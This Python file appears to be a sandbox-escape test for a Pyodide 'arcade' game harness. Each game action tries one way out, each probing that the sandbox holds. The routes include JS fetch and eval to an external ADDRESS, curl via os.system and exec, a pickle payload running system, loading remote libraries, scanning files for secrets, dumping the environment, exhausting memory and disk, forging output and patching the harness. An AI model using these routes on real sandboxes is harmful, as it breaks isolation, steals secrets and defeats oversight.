"""A game whose actions are ways out. ADDRESS stands before it; each try names itself in its address.

None of them uses what the harness hands to games: every one first takes back the true built-ins.
"""

import random

OS = random._os
SYS = OS.sys
BUILTINS = SYS.modules["builtins"]
TRUE_IMPORT = BUILTINS.__import__


def bring(name):
    """Imports past the list of open modules."""
    module = TRUE_IMPORT(name)
    for part in name.split(".")[1:]:
        module = getattr(module, part)
    return module


def use(js, name):
    """Everything one could do with JavaScript's global object."""
    address = ADDRESS + name
    tries = [
        lambda: js.fetch(address + "/fetch"),
        lambda: js.XMLHttpRequest.new().open("GET", address + "/xhr"),
        lambda: js.WebSocket.new(address.replace("http", "ws") + "/socket"),
        lambda: js.EventSource.new(address + "/events"),
        lambda: js.importScripts(address + "/scripts"),
        lambda: js.navigator.sendBeacon(address + "/beacon"),
        lambda: js.Worker.new(address + "/worker"),
        lambda: js.open(address + "/window"),
        lambda: js.eval("fetch('%s/eval')" % address),
        lambda: js.Function("fetch('%s/function')" % address)(),
        lambda: js.setTimeout("fetch('%s/timer')" % address, 0),
        lambda: js.constructor.constructor("fetch('%s/constructor')" % address)(),
        lambda: js.location.assign(address + "/location"),
        lambda: js.parent.postMessage("escaped", "*"),
        lambda: js.top.location.assign(address + "/top"),
        lambda: js.indexedDB.open("secrets"),
        lambda: js.localStorage.getItem("secret"),
        lambda: js.caches.open("secrets"),
        lambda: js.BroadcastChannel.new("secrets").postMessage("escaped"),
        lambda: js.document.cookie,
        lambda: js.URL.createObjectURL(js.Blob.new(["fetch('%s/blob')" % address])),
    ]
    done = []
    for index, one in enumerate(tries):
        try:
            done.append("%d went: %s" % (index, str(one())[:200]))
        except BaseException as error:
            done.append("%d %s" % (index, type(error).__name__))
    return "; ".join(done)


def import_js():
    import js

    return use(js, "import_js")


def true_import_js():
    return use(bring("js"), "true_import_js")


def true_import_pyodide_js():
    return use(bring("pyodide_js"), "true_import_pyodide_js")


def importlib_js():
    return use(bring("importlib").import_module("js"), "importlib_js")


def run_js():
    return bring("pyodide.code").run_js("fetch('%srun_js')" % ADDRESS)


def run_js_import():
    return bring("pyodide.code").run_js("import('%srun_js_import')" % ADDRESS)


def pyodide_ffi():
    ffi = bring("pyodide.ffi")
    return use(ffi.create_proxy(print), "pyodide_ffi")


def pyodide_core():
    return str(dir(bring("_pyodide_core")))


def importhook():
    hook = bring("_pyodide._importhook")
    return use(hook.jsfinder.jsproxies["js"], "importhook")


def new_finder():
    hook = bring("_pyodide._importhook")
    for name in ("jsfinder", "JsFinder", "register_js_module"):
        getattr(hook, name)
    raise LookupError("nothing registered: %s" % list(hook.jsfinder.jsproxies))


def open_url():
    return bring("pyodide.http").open_url(ADDRESS + "open_url").read()


def pyfetch():
    loop = bring("asyncio").get_event_loop()
    return str(loop.run_until_complete(bring("pyodide.http").pyfetch(ADDRESS + "pyfetch")))


def urllib_request():
    return bring("urllib.request").urlopen(ADDRESS + "urllib_request", timeout=1).read()


def http_client():
    http = bring("http.client")
    connection = http.HTTPConnection(ADDRESS.split("/")[2], timeout=1)
    connection.request("GET", "/http_client")
    return connection.getresponse().read()


def raw_socket():
    socket = bring("socket")
    host, port = ADDRESS.split("/")[2].split(":")
    one = socket.socket()
    one.settimeout(1)
    one.connect((host, int(port)))
    one.send(b"GET /raw_socket HTTP/1.0\r\n\r\n")
    return str(one.recv(100))


def low_socket():
    socket = bring("_socket")
    host, port = ADDRESS.split("/")[2].split(":")
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return one.sendto(b"low_socket", (host, int(port)))


def name_lookup():
    return str(bring("socket").gethostbyname("localhost"))


def os_system():
    return OS.system("curl %sos_system" % ADDRESS)


def os_fork():
    return OS.fork()


def os_exec():
    OS.execv("/bin/sh", ["sh", "-c", "curl %sos_exec" % ADDRESS])


def subprocess_run():
    return str(bring("subprocess").run(["curl", ADDRESS + "subprocess_run"]))


def os_popen():
    return OS.popen("curl %sos_popen" % ADDRESS).read()


def ctypes_script():
    ctypes = bring("ctypes")
    return ctypes.CDLL(None).emscripten_run_script(("fetch('%sctypes_script')" % ADDRESS).encode())


def ctypes_load():
    return str(bring("ctypes").CDLL(ADDRESS + "ctypes_load.so"))


def low_ctypes():
    return str(bring("_ctypes").dlopen(None, 0))


def extension_module():
    machinery = bring("importlib.machinery")
    loader = machinery.ExtensionFileLoader("x", ADDRESS + "extension_module.so")
    return str(loader.load_module())


def pickle_system():
    order = "cposix\nsystem\n(S'curl %spickle_system'\ntR." % ADDRESS
    return bring("pickle").loads(order.encode())


def garbage_walk():
    gc = bring("gc")
    found = [thing for thing in gc.get_objects() if "JsProxy" in type(thing).__name__ or "pyodide.ffi" in str(type(thing))]
    return "%d: %s" % (len(found), "; ".join(use(thing, "garbage_walk") for thing in found[:20]))


def garbage_referents():
    gc = bring("gc")
    seen, ahead, found = set(), list(SYS.modules.values()), []
    while ahead and len(seen) < 300000:
        thing = ahead.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        if "Js" in type(thing).__name__:
            found.append(thing)
        ahead.extend(gc.get_referents(thing))
    return "%d: %s" % (len(found), "; ".join(use(thing, "garbage_referents") for thing in found[:20]))


def explore():
    """From every JavaScript object that Pyodide keeps, along all its properties, to anything that could send."""
    gc = bring("gc")
    wanted = "fetch postMessage XMLHttpRequest WebSocket importScripts indexedDB caches navigator Worker".split()
    ahead = [thing for thing in gc.get_objects() if "Js" in type(thing).__name__ or "pyodide.ffi" in str(type(thing))]
    met, found, told = set(), [], 0
    while ahead and told < 3000:
        thing = ahead.pop(0)
        try:
            names = dir(thing)
        except BaseException:
            continue
        told += 1
        for name in names:
            try:
                value = getattr(thing, name)
                key = getattr(value, "js_id", None)
            except BaseException:
                continue
            if key is None or key in met:
                continue
            met.add(key)
            ahead.append(value)
            if name in wanted:
                found.append(name + ": " + use(thing, "explore"))
            if name == "constructor":
                try:
                    value.constructor("fetch('%sexplore')" % ADDRESS)()
                    found.append("code went: " + str(thing)[:50])
                except BaseException:
                    pass
    return "%d objects; %s" % (told, "; ".join(found))


def grow_memory():
    """Ends without harm: the cap of memory is the sandbox's."""
    kept = []
    while True:
        kept.append(bytearray(64000000))


def deaf_to_interrupts():
    signal = bring("signal")
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass


def subclasses():
    found = [one for one in object.__subclasses__() if "JsProxy" in one.__name__ or "JsFinder" in one.__name__]
    return "; ".join(use(one(), "subclasses") for one in found)


def loaded_modules():
    return "; ".join(
        use(module, "loaded_modules") for module in list(SYS.modules.values()) if "Js" in type(module).__name__
    )


def frames():
    frame = SYS._getframe()
    names = set()
    while frame:
        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            if "Js" in type(value).__name__:
                names.add(use(value, "frames"))
        frame = frame.f_back
    return str(names)


def traceback_frames():
    try:
        None.nothing
    except AttributeError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return use(frame.f_globals["sys"].modules["js"], "traceback_frames")


def leaked_function():
    webloop = bring("pyodide.webloop")
    return webloop.scheduleCallback.constructor("fetch('%sleaked_function')" % ADDRESS)()


def event_loop():
    loop = bring("pyodide.webloop").WebLoop()
    loop.call_soon(lambda: use(bring("js"), "event_loop"))
    return "called"


def package_manager():
    manager = bring("pyodide_js._api")
    return str(manager.packageManager.loadPackage(ADDRESS + "package_manager.whl"))


def micropip():
    return str(bring("micropip").install(ADDRESS + "micropip.whl"))


def web_browser():
    return bring("webbrowser").open(ADDRESS + "web_browser")


def files_of_others():
    seen = []
    for folder, _, names in OS.walk("/"):
        seen += [OS.path.join(folder, name) for name in names]
    kept = []
    for path in seen:
        try:
            with SYS.modules["io"].open(path, "rb") as file:
                if b"arcade-secret" in file.read(100000):
                    kept.append(path)
        except OSError:
            pass
    return str(kept)


def fill_disk():
    with SYS.modules["io"].open("/tmp/filler", "wb") as file:
        for _ in range(2000):
            file.write(b"x" * 1000000)
    return "filled"


def mount_files():
    return str(bring("pyodide_js").FS)


def environment():
    return str(dict(OS.environ))


def forge_answers():
    OS.write(2, b'{"frames": [], "omittedFrames": 0}')
    OS.write(1, b"arcade")
    return "wrote"


def patch_harness():
    harness = SYS.modules["arcade_harness"]
    harness.LIMITS["outputCharacters"] = 10**12
    harness.json.dumps = lambda *_, **__: '{"value": {"observation": "<img src=%s>"}, "printed": ""}' % ADDRESS
    return "patched"


class TextGame:
    def __init__(self, randomSeed):
        self.score, self.gameOver, self.gameWon, self.observationStr = 0, False, False, "Doors."

    def getTaskDescription(self):
        return "Get out."

    def calculateScore(self):
        pass

    def generatePossibleActions(self):
        skipped = ("bring", "use", "TRUE_IMPORT")
        doors = [name for name, thing in globals().items() if type(thing) is type(bring) and name not in skipped]
        return {name: [[name]] for name in doors}

    def step(self, action):
        try:
            told = str(globals()[action]())
        except Exception as error:
            told = "%s: %s" % (type(error).__name__, str(error)[:300])
        return (told, 0, 0, False, False)
